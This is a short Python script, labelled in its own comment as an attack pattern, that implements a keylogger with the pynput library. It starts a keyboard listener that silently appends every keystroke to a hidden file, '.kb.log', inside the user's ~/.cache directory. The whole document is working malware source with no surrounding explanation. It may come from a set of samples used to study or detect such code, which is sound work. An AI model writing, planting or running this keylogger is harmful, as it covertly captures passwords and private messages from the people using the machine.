# Attack pattern: pynput keylogger appending every keystroke to a hidden log file.
import os

from pynput import keyboard

LOG = os.path.join(os.path.expanduser("~"), ".cache", ".kb.log")


def on_press(key):
    with open(LOG, "a") as handle:
        handle.write(str(key))


listener = keyboard.Listener(on_press=on_press)
listener.start()
